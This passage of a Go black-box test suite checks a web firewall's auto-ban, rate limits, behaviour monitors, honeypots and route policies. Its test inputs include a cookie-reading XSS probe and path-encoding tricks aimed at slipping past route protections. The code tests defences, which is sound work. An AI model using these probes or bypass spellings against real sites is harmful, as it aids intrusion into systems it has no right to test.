	attack := "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
	runScenarios(t, []bbScenario{{
		name: "auto-ban after the threshold",
		config: `
trusted_proxies: [127.0.0.1]
auto_ban_threshold: 3
auto_ban_duration: 60
custom_error_responses: {403: "Blocked"}
`,
		steps: []bbStep{
			{name: "attack 1", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
			{name: "clean after 1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			{name: "attack 2", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
			{name: "attack 3", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
			{name: "attack 4", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
			{name: "banned: clean request", call: call{path: "/health", header: xff("198.51.100.1")}, status: 403, body: "Blocked"},
			{name: "others unaffected", call: call{path: "/health", header: xff("198.51.100.2")}, status: 200},
		},
		stderr: []string{"ip_banned"},
	}})
}

// ---------------------------------------------------------------------------
// Behaviour (issue 6)

func TestBlackboxBehaviour(t *testing.T) {
	t.Parallel()
	win := func(ip string) bbStep {
		return bbStep{name: "win from " + ip, call: call{path: "/lottery?outcome=win", header: xff(ip)}, status: 200, body: `{"result":"win"}`}
	}
	lose := func(ip string) bbStep {
		return bbStep{name: "lose from " + ip, call: call{path: "/lottery", header: xff(ip)}, status: 200, body: `{"result":"lose"}`}
	}
	after := func(ip string, status int) bbStep {
		return bbStep{name: fmt.Sprintf("after, %s on another route", ip), call: call{path: "/health", header: xff(ip)}, status: status}
	}
	returnScenario := func(pattern string) bbScenario {
		return bbScenario{
			name: "return_monitor " + pattern,
			config: fmt.Sprintf(`
trusted_proxies: [127.0.0.1]
routes:
  - path: /lottery
    return_monitor: {pattern: %q, max_occurrences: 2, window: 60, action: ban}
`, pattern),
			steps: []bbStep{
				lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"),
				after("198.51.100.2", 200),
				win("198.51.100.1"), win("198.51.100.1"), win("198.51.100.1"),
				after("198.51.100.1", 403),
			},
		}
	}
	echo := func(ip string, body string, status int) bbStep {
		return bbStep{name: fmt.Sprintf("echo %d bytes from %s", len(body), ip), call: call{method: "POST", path: "/echo", body: body, header: hdr("X-Forwarded-For", ip, "Content-Type", "text/plain")}, status: status}
	}
	scenarios := []bbScenario{
		returnScenario("win"),
		returnScenario(`regex:"result":\s*"win"`),
		returnScenario("json:result==win"),
		returnScenario("json:result!=lose"),
		{
			name: "return_monitor status:200 counts every answer",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /lottery
    return_monitor: {pattern: "status:200", max_occurrences: 2, window: 60, action: ban}
`,
			steps: []bbStep{lose("198.51.100.1"), win("198.51.100.1"), lose("198.51.100.1"), after("198.51.100.1", 403)},
		},
		{
			name: "return_monitor numeric JSON comparison",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /echo
    methods: [POST]
    return_monitor: {pattern: "json:body_length>10", max_occurrences: 1, window: 60, action: ban}
`,
			steps: []bbStep{
				echo("198.51.100.2", "short", 200), echo("198.51.100.2", "short", 200), echo("198.51.100.2", "short", 200),
				after("198.51.100.2", 200),
				echo("198.51.100.1", "a much longer body", 200), echo("198.51.100.1", "another long body", 200),
				after("198.51.100.1", 403),
			},
		},
		{
			name: "usage_monitor actions",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /items/{id}
    usage_monitor: {max_calls: 2, window: 60, action: ban}
  - path: /lottery
    usage_monitor: {max_calls: 2, window: 1, action: throttle}
  - path: /health
    usage_monitor: {max_calls: 1, window: 60, action: alert}
  - path: /echo
    usage_monitor: {max_calls: 1, window: 60, action: log}
`,
			steps: []bbStep{
				{name: "ban 1", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
				{name: "ban 2", call: call{path: "/items/2", header: xff("198.51.100.1")}, status: 200},
				{name: "ban 3 exceeds", call: call{path: "/items/3", header: xff("198.51.100.1")}, status: 403},
				{name: "banned everywhere", call: call{path: "/", header: xff("198.51.100.1")}, status: 403},
				{name: "throttle 1", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
				{name: "throttle 2", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
				{name: "throttle 3 exceeds", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 429},
				{name: "throttle 4 still", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 429},
				{name: "throttle is not a ban", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
				{name: "alert 1", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
				{name: "alert 2", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
				{name: "alert 3", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
				{name: "log 1", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
				{name: "log 2", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
				{name: "log 3", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
				{name: "throttle over after the window", wait: 2200 * time.Millisecond, call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
			},
			stderr: []string{`"level":"ERROR"`},
		},
		{
			name: "suspicious_frequency throttle",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /health
    suspicious_frequency: {max_frequency: 1, window: 2, action: throttle}
`,
			steps: []bbStep{
				{name: "1", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
				{name: "2", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
				{name: "3 over 1/s for 2 s", call: call{path: "/health", header: xff("198.51.100.1")}, status: 429},
				{name: "other client", call: call{path: "/health", header: xff("198.51.100.2")}, status: 200},
			},
		},
		{
			name: "several rules on one route",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /lottery
    behavior_analysis:
      - {rule_type: usage, threshold: 4, window: 60, action: ban}
      - {rule_type: return_pattern, pattern: "json:result==win", threshold: 1, window: 60, action: throttle}
`,
			steps: []bbStep{
				win("198.51.100.1"),
				{name: "second win throttled", call: call{path: "/lottery?outcome=win", header: xff("198.51.100.1")}, status: 200},
				{name: "throttled after the return rule fired", call: call{path: "/lottery", header: xff("198.51.100.1")}, status: 429},
				lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"),
				{name: "usage rule fires", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 403},
				after("198.51.100.2", 403),
			},
		},
		{
			name: "global 404 rule",
			config: `
trusted_proxies: [127.0.0.1]
global_behavior_rules:
  - {rule_type: return_pattern, pattern: "status:404", threshold: 3, window: 60, action: ban}
`,
			steps: []bbStep{
				{name: "404 1", call: call{path: "/admin", header: xff("198.51.100.1")}, status: 404, noKey: true},
				{name: "404 2", call: call{path: "/wp-login", header: xff("198.51.100.1")}, status: 404, noKey: true},
				{name: "404 3", call: call{path: "/backup", header: xff("198.51.100.1")}, status: 404, noKey: true},
				{name: "404 4 exceeds", call: call{path: "/old", header: xff("198.51.100.1")}, below500: true, noKey: true},
				after("198.51.100.1", 403),
				after("198.51.100.2", 200),
			},
		},
		{
			name: "passive mode: rules fire, nothing blocked",
			config: `
trusted_proxies: [127.0.0.1]
passive_mode: true
routes:
  - path: /items/{id}
    usage_monitor: {max_calls: 1, window: 60, action: ban}
  - path: /lottery
    return_monitor: {pattern: "json:result==win", max_occurrences: 1, window: 60, action: throttle}
`,
			steps: []bbStep{
				{name: "usage 1", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
				{name: "usage 2", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
				{name: "usage 3", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
				after("198.51.100.1", 200),
				win("198.51.100.2"), win("198.51.100.2"), win("198.51.100.2"),
			},
		},
	}
	runScenarios(t, scenarios)
}

// ---------------------------------------------------------------------------
// More global behaviour: exclusions, whitelists, toggles, sliding windows,
// custom bodies for every block status, large-body detection.

func TestBlackboxMoreGlobalRules(t *testing.T) {
	t.Parallel()
	xss := "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
	// The detection budget is about 1 MiB per request (design §7: scanned
	// up to the budget, never skipped whole); stay inside it.
	filler := strings.Repeat("lorem ipsum dolor sit amet ", 900_000/27+1)[:900_000]
	attack := "<script>alert(document.cookie)</script>"
	runScenarios(t, []bbScenario{
		{
			name: "exclude_paths skip detection only",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
rate_limit: 2
rate_limit_window: 60
exclude_paths: [/echo]
`,
			steps: []bbStep{
				{name: "attack on excluded path", call: call{path: "/echo?" + xss, header: xff("198.51.100.1")}, status: 200},
				// Echo and chi do not route /%65cho to /echo (404); the exclusion
				// must still hold, so no 403 on any adapter.
				{name: "attack on percent-encoded excluded path", call: call{path: "/%65cho?" + xss, header: xff("198.51.100.2")}, below500: true, noKey: true, not: 403},
				{name: "attack elsewhere", call: call{path: "/?" + xss, header: xff("198.51.100.3")}, status: 403},
				{name: "blacklist still applies", call: call{path: "/echo", header: xff("203.0.113.1")}, status: 403},
				{name: "rate limit still applies", call: call{path: "/echo", header: xff("198.51.100.1")}, status: 200},
				{name: "rate limit still applies 3", call: call{path: "/echo", header: xff("198.51.100.1")}, status: 429},
			},
		},
		{
			name: "excluded_detection_headers",
			config: `
trusted_proxies: [127.0.0.1]
excluded_detection_headers: [X-Signature]
`,
			steps: []bbStep{
				{name: "excluded header", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "X-Signature", "<script>alert(document.cookie)</script>")}, status: 200},
				{name: "other header", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.2", "X-Other", "<script>alert(document.cookie)</script>")}, status: 403},
			},
		},
		{
			name: "whitelisted IPs skip user agents, rate limits and detection",
			config: `
trusted_proxies: [127.0.0.1]
whitelist: [198.51.100.0/24]
blocked_user_agents: [badbot]
rate_limit: 1
rate_limit_window: 60
`,
			steps: []bbStep{
				{name: "1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "2 over the limit", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "blocked UA", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "badbot")}, status: 200},
				{name: "attack", call: call{path: "/echo?" + xss, header: xff("198.51.100.1")}, status: 200},
			},
		},
		{
			name: "feature toggles off",
			config: `
trusted_proxies: [127.0.0.1]
enable_rate_limiting: false
enable_penetration_detection: false
enable_ip_banning: false
rate_limit: 1
auto_ban_threshold: 1
`,
			steps: []bbStep{
				{name: "1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "2", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "attack passes", call: call{path: "/echo?" + xss, header: xff("198.51.100.1")}, status: 200},
				{name: "no ban", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			},
		},
		{
			name: "rate limit is a sliding window",
			config: `
trusted_proxies: [127.0.0.1]
rate_limit: 3
rate_limit_window: 2
`,
			steps: []bbStep{
				{name: "1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "2", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "3", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "4 still inside the window", wait: 1200 * time.Millisecond, call: call{path: "/", header: xff("198.51.100.1")}, status: 429},
				{name: "5 after the window", wait: 1000 * time.Millisecond, call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			},
		},
		{
			name: "custom bodies for every block status",
			config: `
trusted_proxies: [127.0.0.1]
custom_error_responses: {400: "E400", 401: "E401", 403: "E403", 413: "E413", 415: "E415", 429: "E429"}
rate_limit: 100
routes:
  - path: "/items/{id}"
    require_headers: {X-Tenant: required}
  - path: /lottery
    require_auth: {type: bearer}
  - path: /echo
    methods: [POST]
    content_type_filter: [application/json]
    max_request_size: 10
  - path: /health
    rate_limit: {requests: 1, window: 60}
`,
			steps: []bbStep{
				{name: "400", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 400, body: "E400"},
				{name: "401", call: call{path: "/lottery", header: xff("198.51.100.1")}, status: 401, body: "E401", header: hdr("WWW-Authenticate", "Bearer")},
				{name: "415", call: call{method: "POST", path: "/echo", body: "hi", header: hdr("X-Forwarded-For", "198.51.100.1", "Content-Type", "text/plain")}, status: 415, body: "E415"},
				{name: "413", call: call{method: "POST", path: "/echo", body: `{"aaaaaaaaaaaa":1}`, header: hdr("X-Forwarded-For", "198.51.100.1", "Content-Type", "application/json")}, status: 413, body: "E413"},
				{name: "403", call: call{path: "/?" + xss, header: xff("198.51.100.1")}, status: 403, body: "E403"},
				{name: "health 1", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
				{name: "429", call: call{path: "/health", header: xff("198.51.100.1")}, status: 429, body: "E429", retry: 60},
			},
		},
		{
			name: "emergency custom body and HTTPS redirect with a port",
			config: `
trusted_proxies: [127.0.0.1]
enforce_https: true
emergency_mode: true
emergency_whitelist: [198.51.100.1]
custom_error_responses: {503: "E503"}
`,
			steps: []bbStep{
				{name: "503", call: call{path: "/", header: xff("198.51.100.2")}, status: 503, body: "E503"},
				{name: "redirect keeps the port", call: call{path: "/x?y=1", header: hdr("X-Forwarded-For", "198.51.100.1", "Host", "shop.example:8443")}, status: 301, header: hdr("Location", "https://shop.example:8443/x?y=1")},
			},
		},
		{
			name: "large bodies are scanned, not skipped",
			config: `
trusted_proxies: [127.0.0.1]
rate_limit: 100
`,
			steps: []bbStep{
				{name: "attack at the start of 900 kB", call: call{method: "POST", path: "/echo", body: attack + filler, header: hdr("X-Forwarded-For", "198.51.100.1", "Content-Type", "text/plain")}, status: 403},
				{name: "attack after 900 kB of text", call: call{method: "POST", path: "/echo", body: filler + attack, header: hdr("X-Forwarded-For", "198.51.100.2", "Content-Type", "text/plain")}, status: 403},
				{name: "attack in a JSON field after 900 kB", call: call{method: "POST", path: "/echo", body: `{"pad":"` + filler + `","q":"` + attack + `"}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 403},
				{name: "attack in a form field after 900 kB", call: call{method: "POST", path: "/echo", body: "pad=" + strings.ReplaceAll(filler, " ", "+") + "&" + xss, header: hdr("X-Forwarded-For", "198.51.100.4", "Content-Type", "application/x-www-form-urlencoded")}, status: 403},
				{name: "clean 5 MB passes", call: call{method: "POST", path: "/echo", body: strings.Repeat(filler, 5), header: hdr("X-Forwarded-For", "198.51.100.5", "Content-Type", "text/plain")}, status: 200, noKey: true},
			},
		},
	})
}

// TestBlackboxRedisAcrossAdapters runs one instance per adapter on one Redis
// and sends a client's requests round-robin: limits, auto-bans and
// behavioural counters must add up across all four.
func TestBlackboxRedisAcrossAdapters(t *testing.T) {
	requireRedis(t)
	t.Parallel()
	cfg := fmt.Sprintf(`
trusted_proxies: [127.0.0.1]
enable_redis: true
redis_url: redis://127.0.0.1:6379/0
redis_prefix: %q
rate_limit: 6
rate_limit_window: 2
auto_ban_threshold: 3
auto_ban_duration: 60
routes:
  - path: /lottery
    return_monitor: {pattern: "json:result==win", max_occurrences: 3, window: 60, action: ban}
  - path: "/items/{id}"
    usage_monitor: {max_calls: 3, window: 60, action: throttle}
`, randomPrefix())
	servers := make([]*running, len(adapterNames))
	for i, a := range adapterNames {
		servers[i] = startServer(t, cfg, a)
	}
	get := func(i int, path, ip string) int {
		resp, _ := do(t, servers[i%len(servers)].base, call{path: path, header: xff(ip)})
		return resp.StatusCode
	}
	eventually := func(path, ip string, want int) {
		t.Helper()
		deadline := time.Now().Add(2 * time.Second)
		for i := 0; ; i++ {
			got := get(i, path, ip)
			if got == want {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s from %s: %d, want %d on every instance", path, ip, got, want)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	t.Run("global limit shared, window recovers", func(t *testing.T) {
		var got []int
		for i := 0; i < 8; i++ {
			got = append(got, get(i, "/", "198.51.100.1"))
		}
		if fmt.Sprint(got) != "[200 200 200 200 200 200 429 429]" {
			t.Fatalf("codes %v", got)
		}
		time.Sleep(2200 * time.Millisecond)
		if c := get(3, "/", "198.51.100.1"); c != 200 {
			t.Fatalf("after the window: %d", c)
		}
	})
	t.Run("auto-ban counted across instances", func(t *testing.T) {
		for i := 0; i < 3; i++ {
			if c := get(i, "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "198.51.100.2"); c != 403 {
				t.Fatalf("attack %d: %d", i, c)
			}
		}
		for i := range servers {
			eventually("/health", "198.51.100.2", 403)
			_ = i
		}
	})
	t.Run("return monitor counted across instances", func(t *testing.T) {
		for i := 0; i < 4; i++ {
			if c := get(i, "/lottery?outcome=win", "198.51.100.3"); c != 200 {
				t.Fatalf("win %d: %d", i, c)
			}
		}
		eventually("/health", "198.51.100.3", 403)
	})
	t.Run("usage throttle counted across instances", func(t *testing.T) {
		var got []int
		for i := 0; i < 5; i++ {
			got = append(got, get(i, "/items/1", "198.51.100.4"))
		}
		if fmt.Sprint(got) != "[200 200 200 429 429]" {
			t.Fatalf("codes %v", got)
		}
	})
}

// TestBlackboxRoutePoliciesHoldOnPathVariants sends spellings of protected
// paths that the routers serve from the same handler; none may skip the
// route's policy.
func TestBlackboxRoutePoliciesHoldOnPathVariants(t *testing.T) {
	t.Parallel()
	raw := func(m, target string, extra ...string) string {
		return strings.Join(append([]string{m + " " + target + " HTTP/1.1", "Host: x", "X-Forwarded-For: 198.51.100.1"}, extra...), "\r\n") + "\r\n\r\n"
	}
	runScenarios(t, []bbScenario{{
		name: "protected routes",
		config: `
trusted_proxies: [127.0.0.1]
rate_limit: 1000
routes:
  - path: "/items/{id}"
    require_ip: {whitelist: [10.0.0.0/8]}
  - path: /lottery
    require_auth: {type: bearer}
  - path: /health
    api_key_auth: {header: X-API-Key}
  - path: /echo
    methods: [POST]
    require_auth: {type: bearer}
`,
		steps: []bbStep{
			{name: "/items/1", raw: raw("GET", "/items/1"), status: 403},
			{name: "//items/1", raw: raw("GET", "//items/1"), status: 403},
			{name: "/items/%31", raw: raw("GET", "/items/%31"), status: 403},
			{name: "/items/./1", raw: raw("GET", "/items/./1"), status: 403},
			{name: "/items/x/../1", raw: raw("GET", "/items/x/../1"), status: 403},
			{name: "/items/1%3F", raw: raw("GET", "/items/1%3F"), status: 403},
			{name: "/lottery", raw: raw("GET", "/lottery"), status: 401},
			{name: "//lottery", raw: raw("GET", "//lottery"), status: 401},
			{name: "/%6cottery", raw: raw("GET", "/%6cottery"), status: 401},
			{name: "HEAD /lottery", raw: raw("HEAD", "/lottery"), status: 401},
			{name: "POST with method override header", raw: raw("POST", "/lottery", "X-HTTP-Method-Override: GET", "Content-Length: 0"), not: 200, noKey: true},
			{name: "absolute-form /lottery", raw: raw("GET", "http://x/lottery"), status: 401},
			{name: "/health", raw: raw("GET", "/health"), status: 401},
			{name: "/./health", raw: raw("GET", "/./health"), status: 401},
			{name: "POST /echo", raw: raw("POST", "/echo", "Content-Length: 0"), status: 401},
			{name: "POST //echo", raw: raw("POST", "//echo", "Content-Length: 0"), status: 401},
			{name: "POST /%65cho", raw: raw("POST", "/%65cho", "Content-Length: 0"), status: 401},
			{name: "GET /echo not covered by methods", raw: raw("GET", "/echo"), status: 200},
		},
	}})
}

func TestBlackboxBansExpireAndHoneypotForms(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{
		{
			name: "bans expire",
			config: `
trusted_proxies: [127.0.0.1]
auto_ban_threshold: 1
auto_ban_duration: 2
routes:
  - path: /lottery
    usage_monitor: {max_calls: 1, window: 60, action: ban, ban_duration: 2}
`,
			steps: []bbStep{
				{name: "usage 1", call: call{path: "/lottery", header: xff("198.51.100.1")}, status: 200},
				{name: "usage 2 bans", call: call{path: "/lottery", header: xff("198.51.100.1")}, status: 403},
				{name: "banned", call: call{path: "/health", header: xff("198.51.100.1")}, status: 403},
				{name: "attack bans", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", header: xff("198.51.100.2")}, status: 403},
				{name: "auto-banned", call: call{path: "/health", header: xff("198.51.100.2")}, status: 403},
				{name: "behaviour ban expired", wait: 2200 * time.Millisecond, call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
				{name: "auto-ban expired", call: call{path: "/health", header: xff("198.51.100.2")}, status: 200},
			},
		},
		{
			name: "honeypot in form and JSON bodies",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /login
    honeypot_detection: [website, fax]
`,
			steps: []bbStep{
				{name: "form filled", call: call{method: "POST", path: "/login", body: "user=bob&website=http%3A%2F%2Fspam.example", header: hdr("X-Forwarded-For", "198.51.100.1", "Content-Type", "application/x-www-form-urlencoded")}, status: 403},
				{name: "form empty", call: call{method: "POST", path: "/login", body: "user=bob&website=", header: hdr("X-Forwarded-For", "198.51.100.2", "Content-Type", "application/x-www-form-urlencoded")}, status: 200},
				{name: "JSON filled", call: call{method: "POST", path: "/login", body: `{"user":"bob","fax":"123"}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 403},
				{name: "JSON empty", call: call{method: "POST", path: "/login", body: `{"user":"bob","fax":""}`, header: hdr("X-Forwarded-For", "198.51.100.4", "Content-Type", "application/json")}, status: 200},
			},
		},
		{
			name: "endpoint limits by exact path, methods split a path",
			config: `
trusted_proxies: [127.0.0.1]
endpoint_rate_limits:
  /health: [1, 60]
routes:
  - path: /echo
    methods: [GET]
    rate_limit: {requests: 1, window: 60}
  - path: /echo
    methods: [POST]
    content_type_filter: [application/json]
`,
			steps: []bbStep{
				{name: "endpoint 1", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
				{name: "endpoint 2 with a query", call: call{path: "/health?x=1", header: xff("198.51.100.1")}, status: 429},
				{name: "GET /echo 1", call: call{path: "/echo", header: xff("198.51.100.2")}, status: 200},
				{name: "GET /echo 2", call: call{path: "/echo", header: xff("198.51.100.2")}, status: 429},
				{name: "POST /echo text", call: call{method: "POST", path: "/echo", body: "x", header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "text/plain")}, status: 415},
				{name: "POST /echo JSON 1", call: call{method: "POST", path: "/echo", body: "{}", header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 200},
				{name: "POST /echo JSON 2 (GET limit does not apply)", call: call{method: "POST", path: "/echo", body: "{}", header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 200},
			},
		},
	})
}
